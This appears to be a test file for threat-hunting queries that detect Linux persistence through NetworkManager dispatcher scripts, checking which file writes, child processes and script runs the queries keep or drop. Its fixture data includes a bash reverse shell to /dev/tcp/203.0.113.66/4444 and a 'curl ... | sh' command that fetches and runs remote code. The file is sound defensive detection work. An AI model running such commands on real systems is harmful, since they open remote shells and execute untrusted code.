import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { defaultHuntConfig } from '../functions/core/hunt-config';
import { buildHuntRequest } from '../functions/core/hunt-request';
import { huntById } from '../functions/core/hunts';
import { dispatcherScriptOf } from '../functions/core/hunts/dispatcher-scripts';
import { groupsOf, keeps, type Doc } from './support/hunt-evaluation';

const writeQuery = buildHuntRequest(huntById('dispatcher-script-write')!, defaultHuntConfig());
const childQuery = buildHuntRequest(huntById('dispatcher-script-child')!, defaultHuntConfig());
const runQuery = buildHuntRequest(huntById('dispatcher-script-run')!, defaultHuntConfig());
const seedRule = JSON.parse(readFileSync(new URL('fixtures/seed-rule-exclusions.json', import.meta.url), 'utf8')) as { excludedExecutables: string[] };

const write = (over: Record<string, string | undefined>): Doc => ({
  'host.os.type': 'linux',
  'event.type': 'creation',
  'file.path': '/etc/NetworkManager/dispatcher.d/99-evil',
  'file.name': '99-evil',
  'process.name': 'bash',
  'process.executable': '/usr/bin/bash',
  ...over,
});

describe('dispatcher-script-write, evaluated whole by the local ES|QL evaluator', () => {
  it('keeps extensionless scripts and events with missing fields', () => {
    assert.equal(keeps(writeQuery, write({})), true, 'extensionless script');
    assert.equal(keeps(writeQuery, write({ 'process.executable': undefined, 'process.name': undefined })), true, 'no process fields');
    assert.equal(keeps(writeQuery, write({ 'file.name': undefined })), true, 'no file.name');
    assert.equal(keeps(writeQuery, write({ 'file.extension': 'sh', 'file.path': '/etc/NetworkManager/dispatcher.d/evil.sh' })), true);
  });

  it('covers both dispatcher trees and their subfolders, creation and change', () => {
    for (const path of ['/usr/lib/NetworkManager/dispatcher.d/50-x', '/etc/NetworkManager/dispatcher.d/pre-up.d/x', '/usr/lib/NetworkManager/dispatcher.d/no-wait.d/x', '/etc/NetworkManager/dispatcher.d/pre-down.d/x']) {
      assert.equal(keeps(writeQuery, write({ 'file.path': path })), true, path);
    }
    assert.equal(keeps(writeQuery, write({ 'event.type': 'change' })), true);
    assert.equal(keeps(writeQuery, write({ 'event.type': 'deletion' })), false);
    assert.equal(keeps(writeQuery, write({ 'host.os.type': 'windows' })), false);
    assert.equal(keeps(writeQuery, write({ 'file.path': '/etc/NetworkManager/conf.d/x' })), false);
  });

  it("drops every legitimate writer of the seed rule, and nothing an attacker chooses by name alone", () => {
    for (const executable of seedRule.excludedExecutables.filter((e) => !e.includes('*'))) {
      assert.equal(keeps(writeQuery, write({ 'process.executable': executable })), false, executable);
    }
    for (const executable of ['/nix/store/abc-ansible/bin/python3', '/var/lib/dpkg/info/nm.postinst', '/tmp/vmis.123/install', '/snap/core/1/usr/bin/x', '/dev/fd/3', '/usr/lib/virtualbox/VBoxManage']) {
      assert.equal(keeps(writeQuery, write({ 'process.executable': executable })), false, executable);
    }
    assert.equal(keeps(writeQuery, write({ 'process.name': 'dpkg', 'process.executable': '/usr/sbin/dpkg' })), false, 'dpkg in a system directory');
    assert.equal(keeps(writeQuery, write({ 'process.name': 'dpkg', 'process.executable': '/tmp/dpkg' })), true, 'a binary named dpkg in /tmp');
  });

  it("drops editors' swap files and sed's temporary files, not sed's final write", () => {
    for (const extension of ['swp', 'swpx', 'swx', 'dpkg-remove', 'dpkg-new']) {
      assert.equal(keeps(writeQuery, write({ 'file.extension': extension })), false, extension);
    }
    assert.equal(keeps(writeQuery, write({ 'process.name': 'sed', 'process.executable': '/usr/bin/sed', 'file.name': 'sedAbC123' })), false);
    assert.equal(keeps(writeQuery, write({ 'process.name': 'sed', 'process.executable': '/usr/bin/sed', 'file.name': 'panix-dispatcher.sh' })), true);
  });

  const seedPath = new URL('../../shared/seeds/hunt-persistence-via-networkmanager-dispatcher-script.md', import.meta.url);
  it('fixes what the seed query gets wrong: it drops every extensionless script', { skip: !existsSync(seedPath) && 'seed documents not beside the repository' }, () => {
    const seedQuery = [...readFileSync(seedPath, 'utf8').matchAll(/```sql\n([\s\S]*?)```/g)].map((m) => m[1]!)[1]!;
    const seedDoc = write({ 'event.type': 'creation' });
    // The seed's stray `sql` line is a Markdown artefact, not ES|QL (product brief).
    const seedWhere = { query: seedQuery.replace(/^sql\n/, '') };
    assert.equal(keeps(seedWhere, { ...seedDoc, 'file.extension': 'sh' }), true, 'the seed keeps a script with an extension');
    assert.equal(keeps(seedWhere, seedDoc), false, 'the seed loses the extensionless script');
    assert.equal(keeps(writeQuery, seedDoc), true, 'this hunt keeps it');
  });
});

describe('dispatcher-script-child, evaluated whole by the local ES|QL evaluator', () => {
  const child = (over: Record<string, string | readonly string[] | undefined>): Doc => ({
    'host.os.type': 'linux',
    'event.type': 'start',
    'event.action': 'exec',
    'process.parent.name': 'panix-dispatcher.sh',
    'process.parent.executable': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh',
    'process.parent.command_line': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh eth0 up',
    'process.parent.args': ['/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'eth0', 'up'],
    'process.executable': '/usr/bin/logger',
    'process.command_line': 'logger -t vpn routes for tun0 installed',
    ...over,
  });
  const parentOf = (doc: Doc) => groupsOf(childQuery, [doc]).map((g) => g.parent_script);

  it('keeps children of scripts in either tree, even when one parent field is missing, and never forks', () => {
    assert.equal(keeps(childQuery, child({})), true);
    assert.equal(keeps(childQuery, child({ 'process.parent.name': undefined })), true);
    assert.equal(keeps(childQuery, child({ 'process.parent.executable': '/usr/lib/NetworkManager/dispatcher.d/11-dhclient', 'process.parent.command_line': undefined, 'process.parent.args': undefined })), true);
    assert.equal(keeps(childQuery, child({ 'process.parent.name': 'bash', 'process.parent.executable': '/usr/bin/bash', 'process.parent.command_line': 'bash -l', 'process.parent.args': ['bash', '-l'] })), false);
    assert.equal(keeps(childQuery, child({ 'event.action': 'fork' })), false);
  });

  it('attributes the child of an interpreter-run script to the script in the parent\'s arguments', () => {
    const python = { 'process.parent.name': 'python3.11', 'process.parent.executable': '/usr/bin/python3.11', 'process.parent.command_line': 'python3 /etc/NetworkManager/dispatcher.d/30-proxy wlp2s0 up', 'process.parent.args': ['python3', '/etc/NetworkManager/dispatcher.d/30-proxy', 'wlp2s0', 'up'] };
    assert.deepEqual(parentOf(child(python)), ['/etc/NetworkManager/dispatcher.d/30-proxy']);
    const sh = { 'process.parent.name': 'sh', 'process.parent.executable': '/usr/bin/dash', 'process.parent.command_line': '/bin/sh /usr/lib/NetworkManager/dispatcher.d/90-x eth0 down', 'process.parent.args': ['/bin/sh', '/usr/lib/NetworkManager/dispatcher.d/90-x', 'eth0', 'down'] };
    assert.deepEqual(parentOf(child(sh)), ['/usr/lib/NetworkManager/dispatcher.d/90-x']);
  });

  it('does not take a vim parent that merely names a dispatcher path for a dispatcher script', () => {
    const vim = { 'process.parent.name': 'vim', 'process.parent.executable': '/usr/bin/vim.basic', 'process.parent.command_line': 'vim /etc/NetworkManager/dispatcher.d/50-vpn', 'process.parent.args': ['vim', '/etc/NetworkManager/dispatcher.d/50-vpn'] };
    assert.equal(keeps(childQuery, child(vim)), false);
  });

  it('masks interface names in the query, so tun0 and tun1 are one child; other text is untouched', () => {
    const groups = groupsOf(childQuery, [
      child({ 'process.executable': '/usr/sbin/ip', 'process.command_line': 'ip route replace 10.20.0.0/16 dev tun0 metric 50' }),
      child({ 'process.executable': '/usr/sbin/ip', 'process.command_line': 'ip route replace 10.20.0.0/16 dev tun1 metric 50' }),
      child({ 'process.executable': '/usr/bin/bash', 'process.command_line': "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'" }),
    ]);
    assert.deepEqual(groups.map((g) => [g.masked_command_line, g.event_count]).sort(), [
      ["bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'", 1],
      ['ip route replace 10.20.0.0/16 dev <interface> metric 50', 2],
    ]);
  });
});

describe('dispatcher-script-run, evaluated whole by the local ES|QL evaluator', () => {
  const SCRIPT = '/etc/NetworkManager/dispatcher.d/99-vpn-routes';
  const run = (over: Record<string, string | readonly string[] | undefined>): Doc => ({
    'host.os.type': 'linux',
    'event.type': 'start',
    'event.action': 'exec',
    'process.parent.name': 'nm-dispatcher',
    'process.parent.executable': '/usr/libexec/nm-dispatcher',
    'process.name': 'bash',
    'process.executable': '/usr/bin/bash',
    'process.command_line': `/bin/bash ${SCRIPT} tun0 up`,
    'process.args': ['/bin/bash', SCRIPT, 'tun0', 'up'],
    ...over,
  });
  const identities = (docs: Doc[]) => groupsOf(runQuery, docs).map((g) => [g.script, g.direct_executable, g.direct_command_line, g.event_count]);

  it('identifies a run by the script, whatever the interface, the action or the way it is started', () => {
    const docs = [
      run({}),
      run({ 'process.command_line': `/bin/bash ${SCRIPT} tun1 down`, 'process.args': ['/bin/bash', SCRIPT, 'tun1', 'down'] }),
      run({ 'process.name': 'env', 'process.executable': '/usr/bin/env', 'process.command_line': `/usr/bin/env python3 ${SCRIPT} wg3 vpn-up`, 'process.args': ['/usr/bin/env', 'python3', SCRIPT, 'wg3', 'vpn-up'] }),
      run({ 'process.name': 'python3.11', 'process.executable': '/usr/bin/python3.11', 'process.command_line': `python3 ${SCRIPT} enx00e04c68a1b2 up`, 'process.args': ['python3', SCRIPT, 'enx00e04c68a1b2', 'up'] }),
      run({ 'process.name': '99-vpn-routes', 'process.executable': SCRIPT, 'process.command_line': `${SCRIPT} br-3f9a0c1d2e4b dhcp4-change`, 'process.args': [SCRIPT, 'br-3f9a0c1d2e4b', 'dhcp4-change'] }),
    ];
    assert.deepEqual(identities(docs), [[SCRIPT, null, null, 5]]);
  });

  it('keeps `01-ifupdown x.sh` its own script, never the known 01-ifupdown', () => {
    const spaced = '/etc/NetworkManager/dispatcher.d/01-ifupdown x.sh';
    const known = '/etc/NetworkManager/dispatcher.d/01-ifupdown';
    const docs = [run({ 'process.command_line': `/bin/bash ${known} eth0 up`, 'process.args': ['/bin/bash', known, 'eth0', 'up'] }), run({ 'process.command_line': `/bin/bash ${spaced} eth0 up`, 'process.args': ['/bin/bash', spaced, 'eth0', 'up'] })];
    assert.deepEqual(identities(docs).map((i) => i[0]).sort(), [known, spaced]);
  });

  it('never hides a second dispatcher path behind a known one (a shebang that adds an argument)', () => {
    const known = '/etc/NetworkManager/dispatcher.d/01-ifupdown';
    const evil = '/etc/NetworkManager/dispatcher.d/99-evil';
    const [identity] = identities([run({ 'process.command_line': `/bin/bash ${known} ${evil} eth0 up`, 'process.args': ['/bin/bash', known, evil, 'eth0', 'up'] })]);
    assert.equal(identity![0], `${known}\u0000${evil}`);
    assert.equal(identity![0], dispatcherScriptOf({ executable: '/usr/bin/bash', name: 'bash', args: ['/bin/bash', known, evil, 'eth0', 'up'] }), 'the query and its mirror agree');
  });

  it('keeps a payload exec-ed in place, identified by its executable and masked command line', () => {
    const payload = run({ 'process.name': '.x', 'process.executable': '/tmp/.x', 'process.command_line': '/tmp/.x eth0 up', 'process.args': ['/tmp/.x', 'eth0', 'up'] });
    const viaBash = run({ 'process.command_line': 'bash -c curl -s http://203.0.113.7/x | sh', 'process.args': ['bash', '-c', 'curl -s http://203.0.113.7/x | sh'] });
    assert.deepEqual(identities([payload, viaBash]).sort(), [
      [null, '/tmp/.x', '/tmp/.x <interface> up', 1],
      [null, '/usr/bin/bash', 'bash -c curl -s http://203.0.113.7/x | sh', 1],
    ]);
  });

  it('reads only what nm-dispatcher starts', () => {
    assert.equal(keeps(runQuery, run({ 'process.parent.name': 'bash' })), false);
    assert.equal(keeps(runQuery, run({ 'process.parent.name': undefined })), false);
  });
});
